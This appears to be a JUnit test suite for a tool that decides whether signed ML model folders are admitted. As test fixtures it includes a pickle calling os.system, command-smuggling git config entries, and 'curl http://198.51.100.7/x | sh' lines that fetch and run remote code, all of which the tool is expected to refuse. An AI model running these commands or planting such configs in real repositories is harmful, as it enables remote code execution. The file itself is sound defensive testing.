package io.sallyport.artifacts.admission;

import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sallyport.artifacts.Digests;
import io.sallyport.artifacts.PickleBytes;
import io.sallyport.artifacts.ScanLimits;
import io.sallyport.artifacts.signing.KeyFile;
import io.sallyport.artifacts.signing.ModelSigner;
import io.sallyport.artifacts.signing.ModelTree;
import io.sallyport.core.Evidence;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.spec.ECGenParameterSpec;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** One verdict on a model. */
final class AdmissionTest {

  @TempDir private Path folder = Path.of("");

  private Path model = Path.of("");

  @BeforeEach
  void makeModel() throws Exception {
    model = Files.createDirectories(folder.resolve("model"));
    Files.writeString(model.resolve("config.json"), "{\"model_type\":\"bert\"}");
    Files.writeString(model.resolve("card.yaml"), "name: Scorer\nintendedUse: tests\nusers: us\n");
    KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
    generator.initialize(new ECGenParameterSpec("secp256r1"));
    KeyPair pair = generator.generateKeyPair();
    Files.writeString(folder.resolve("k.pem"), pem("PRIVATE KEY", pair.getPrivate().getEncoded()));
    Files.writeString(folder.resolve("k.pub"), pem("PUBLIC KEY", pair.getPublic().getEncoded()));
    Files.writeString(
        folder.resolve("policy.yaml"),
        "signature: {publicKey: k.pub}\ncard: {completeness: 0.01}\n");
    sign();
  }

  @Test
  void cleanSignedDescribedModel_isAdmitted() throws Exception {
    AdmissionReport report = decide();

    assertThat(report.reasons()).isEmpty();
    assertThat(report.admitted()).isTrue();
    Evidence evidence = Admission.evidence(model, report, Instant.now(), "test");
    assertThat(evidence.figure()).isEqualTo(1);
    assertThat(evidence.subject()).startsWith("model sha256:");
  }

  @Test
  void maliciousFile_isRefusedAlthoughItIsSigned() throws Exception {
    Files.write(model.resolve("m.pkl"), PickleBytes.calling("os", "system", "x"));
    sign();

    AdmissionReport report = decide();

    assertThat(report.admitted()).isFalse();
    assertThat(report.reasons()).hasSize(1);
    assertThat(report.reasons().getFirst()).contains("m.pkl is malicious (pickle/");
  }

  @Test
  void unsignedFileAndPoorCard_areReasons() throws Exception {
    Files.writeString(model.resolve("notes.txt"), "new");
    Files.writeString(
        folder.resolve("policy.yaml"),
        "signature: {publicKey: k.pub}\ncard: {completeness: 0.9}\n");

    AdmissionReport report = decide();

    assertThat(report.reasons()).hasSize(2);
    assertThat(report.reasons().get(0)).contains("1 files are not signed");
    assertThat(report.reasons().get(1)).startsWith("The card meets ");
  }

  @Test
  void acceptedRule_admitsWhatIsSuspiciousForThatReasonOnly() throws Exception {
    Files.writeString(model.resolve("config.json"), "{\"auto_map\":{\"A\":\"x.Y\"}}");
    sign();
    assertThat(decide().admitted()).isFalse();
    Files.writeString(folder.resolve("policy.yaml"), "scan: {accept: [config/remote-code]}\n");

    assertThat(decide().admitted()).isTrue();
  }

  @Test
  void policyWithAnUnknownName_isRefused() throws Exception {
    for (String policy :
        List.of(
            "scann: {}",
            "scan: {worst: malicious}",
            "scan: {worst: fine}",
            "scan: {accept: [nonsense/rule]}",
            "signature: {file: a}",
            "- a",
            "a: [")) {
      Files.writeString(folder.resolve("policy.yaml"), policy);
      assertThatThrownBy(this::decide)
          .as(policy)
          .isInstanceOf(PolicyException.class)
          .hasMessageNotContaining("enum");
    }
  }

  private AdmissionReport decide() throws Exception {
    return new Admission(
            AdmissionPolicy.read(folder.resolve("policy.yaml")), ScanLimits.standard(), 2)
        .decide(model, List.of());
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "\n", "# scan: {worst: clean}\n", "{}", "---\n", "null\n"})
  void emptyPolicy_isRefusedAndSaysWhatIsExpected(String text) throws Exception {
    Files.writeString(folder.resolve("policy.yaml"), text);

    assertThatThrownBy(() -> AdmissionPolicy.read(folder.resolve("policy.yaml")))
        .isInstanceOf(PolicyException.class)
        .hasMessageContaining("empty (expected: at least one of scan, signature and card");
  }

  @ParameterizedTest
  @ValueSource(strings = {"signature:\n", "signature: {}\n", "scan: {}\nsignature: null\n"})
  void signatureWithoutAKey_isRefused(String text) throws Exception {
    Files.writeString(folder.resolve("policy.yaml"), text);

    assertThatThrownBy(() -> AdmissionPolicy.read(folder.resolve("policy.yaml")))
        .isInstanceOf(PolicyException.class)
        .hasMessageContaining("publicKey");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"code/evil.py", ".git/hooks/pre-commit", ".github/run.sh", "code/w.dat", "code/x"})
  void executableThatTheSignatureLeavesOut_isRefusedUnlessThePolicyListsIt(String name)
      throws Exception {
    Files.createDirectory(model.resolve("code"));
    sign(List.of("code"));
    Path file = model.resolve(name);
    Files.createDirectories(file.getParent());
    if (name.endsWith(".dat")) {
      Files.write(file, PickleBytes.calling("collections", "OrderedDict", "x"));
    } else {
      Files.writeString(file, "#!/bin/sh\necho\n");
    }

    for (String unsigned : List.of("refuse", "show")) {
      policy("unsigned: " + unsigned);
      AdmissionReport report = decide();
      assertThat(report.admitted()).as(unsigned).isFalse();
      assertThat(String.join(" ", report.reasons())).contains(name + " is left out");
    }
    String folder = name.substring(0, name.indexOf('/'));
    policy("ignore: [" + folder + "/]");

    assertThat(decide().reasons()).filteredOn(reason -> reason.contains("left out")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"model.safetensors", "notes.txt", "data/table.csv"})
  void whatTheSignerLeftOut_isUnsignedUnlessThePolicyListsIt(String name) throws Exception {
    Path file = model.resolve(name);
    Files.createDirectories(requireNonNull(file.getParent()));
    Files.writeString(file, name.endsWith("s") ? "\2\0\0\0\0\0\0\0{}" : "a,b\n");
    sign(List.of(name));

    assertThat(String.join(" ", decide().reasons()))
        .contains("1 files are left out of the signature and not in the policy's list")
        .contains(name);
    policy("unsigned: show");
    assertThat(decide().admitted()).isEqualTo(!name.endsWith("s"));
    policy("ignore: [" + name + ", .git]");
    assertThat(decide().reasons()).isEmpty();
  }

  @Test
  void plainFilesOfGit_areIgnoredUnlessThePolicySaysThatNothingIs() throws Exception {
    Files.writeString(model.resolve(".gitattributes"), "*.bin filter=lfs\n");
    Files.createDirectory(model.resolve(".git"));
    Files.writeString(model.resolve(".git/HEAD"), "ref: refs/heads/main\n");
    assertThat(decide().reasons()).isEmpty();
    policy("ignore: []");

    assertThat(decide().reasons())
        .containsExactly(
            "2 files are left out of the signature and not in the policy's list, the first is"
                + " .git/HEAD.");
    policy("ignore: code");
    assertThatThrownBy(this::decide).isInstanceOf(PolicyException.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "config:[core]\n\tfsmonitor = ./run\n",
        "config:[core] sshCommand=x\n",
        "config:[alias]\n st = !curl evil\n",
        "config:[filter \"a\"]\n smudge = sh -c \\\n x\n",
        "config:[include]\n path = ../evil\n",
        "config:[core]\n hooksPath = weights\n",
        "config:[remote \"o\"]\n url = ext::sh -c x\n",
        "config:[credential]\n helper = !x\n",
        "hooks/post-checkout:echo without a first line\n",
        "info/attributes:* filter=a\n"
      })
  void commandOfGit_isRefused(String settings) throws Exception {
    int colon = settings.indexOf(':');
    Path file = model.resolve(".git").resolve(settings.substring(0, colon));
    Files.createDirectories(requireNonNull(file.getParent()));
    Files.writeString(file, settings.substring(colon + 1));

    AdmissionReport report = decide();

    assertThat(report.admitted()).isFalse();
    assertThat(String.join(" ", report.reasons())).contains(settings.substring(0, colon));
  }

  @Test
  void attributesWithAFilterOfTheAuthors_areRefused() throws Exception {
    Files.writeString(model.resolve(".gitattributes"), "*.bin filter=evil diff=lfs -text\n");

    assertThat(decide().admitted()).isFalse();
  }

  @Test
  void freshCloneWithLargeFiles_isAdmitted() throws Exception {
    Path git = Files.createDirectories(model.resolve(".git/hooks")).resolve("..");
    Files.writeString(
        git.resolve("config"),
        """
        [core]
        \trepositoryformatversion = 0
        \tfilemode = true
        \tfsmonitor = true
        [remote "origin"]
        \turl = https://hub.example/a/b
        \tfetch = +refs/heads/*:refs/remotes/origin/*
        [branch "main"]
        \tremote = origin
        [filter "lfs"]
        \tprocess = git-lfs filter-process
        \tclean = git-lfs clean -- %f
        \tsmudge = git-lfs smudge -- %f
        [alias]
        \tst = status
        """);
    Files.writeString(git.resolve("hooks/pre-push.sample"), "#!/bin/sh\nexec git diff-index\n");
    Files.writeString(
        model.resolve(".gitattributes"), "*.bin filter=lfs diff=lfs merge=lfs -text\n");

    assertThat(decide().reasons()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"payload", "bin/start"})
  void codeWithoutAnEnding_isJudgedAsCode(String name) throws Exception {
    Path file = model.resolve(name);
    Files.createDirectories(requireNonNull(file.getParent()));
    Files.writeString(file, "import os\nos.system('curl http://198.51.100.7/x | sh')\n");
    sign();

    assertThat(String.join(" ", decide().reasons())).contains(name + " is malicious (code/");
    Files.writeString(file, "set -e\ncurl http://198.51.100.7/x | sh\n");
    sign();
    assertThat(String.join(" ", decide().reasons())).contains(name + " is malicious (code/");
  }

  @Test
  void figureOfAnotherMeasureOrModel_isRefused() throws Exception {
    String weights = Digests.sha256Hex(Files.readAllBytes(model.resolve("config.json")));
    for (String[] record :
        new String[][] {
          {"accuracy", "model sha256:" + weights, ""},
          {"accuracy", "model sha256:" + "0".repeat(64), "is of 'model sha256:000"},
          {"accuracy", "holdout", "is of 'holdout'"},
          {"latency", "model sha256:" + weights, "measures 'latency', not 'accuracy'"}
        }) {
      Files.writeString(
          model.resolve("card.yaml"), "name: S\nmeasurements: [{name: accuracy, evidence: e-1}]\n");
      sign();
      Instant now = Instant.now();
      Evidence evidence =
          new Evidence(
              "e-1",
              record[0],
              record[1],
              "share",
              0.9,
              null,
              now,
              now,
              now.plusSeconds(60),
              "t",
              1);
      AdmissionReport report =
          new Admission(
                  AdmissionPolicy.read(folder.resolve("policy.yaml")), ScanLimits.standard(), 2)
              .decide(model, List.of(evidence));
      assertThat(String.join(" ", report.reasons())).contains(record[2]);
      assertThat(report.admitted()).isEqualTo(record[2].isEmpty());
    }
  }

  @Test
  void evidence_namesTheDigestOfWhatLiesThereWithAndWithoutASignature() throws Exception {
    String signed = subject();
    assertThat(decide().digest())
        .isEqualTo(ModelTree.rootDigest(model, model.resolve("model.sig")))
        .isEqualTo(requireNonNull(decide().verification()).rootDigest());
    Files.writeString(model.resolve("config.json"), "{\"model_type\":\"other\"}");
    String changed = subject();
    assertThat(changed).startsWith("model sha256:").isNotEqualTo(signed);
    Files.writeString(folder.resolve("policy.yaml"), "scan: {worst: clean}\n");

    assertThat(subject()).isEqualTo(changed);
  }

  private String subject() throws Exception {
    return Admission.evidence(model, decide(), Instant.now(), "test").subject();
  }

  private void policy(String signature) throws Exception {
    Files.writeString(
        folder.resolve("policy.yaml"), "signature: {publicKey: k.pub, " + signature + "}\n");
  }

  private void sign() throws Exception {
    sign(List.of());
  }

  private void sign(List<String> ignore) throws Exception {
    Path signature = model.resolve("model.sig");
    Files.deleteIfExists(signature);
    Files.writeString(
        signature,
        ModelSigner.sign(
            model,
            signature,
            KeyFile.open(folder.resolve("k.pem")),
            new ModelSigner.Options(ignore, false, 0, 2)));
  }

  private static String pem(String label, byte[] der) {
    return "-----BEGIN %s-----\n%s\n-----END %s-----\n"
        .formatted(label, Base64.getMimeEncoder().encodeToString(der), label);
  }
}
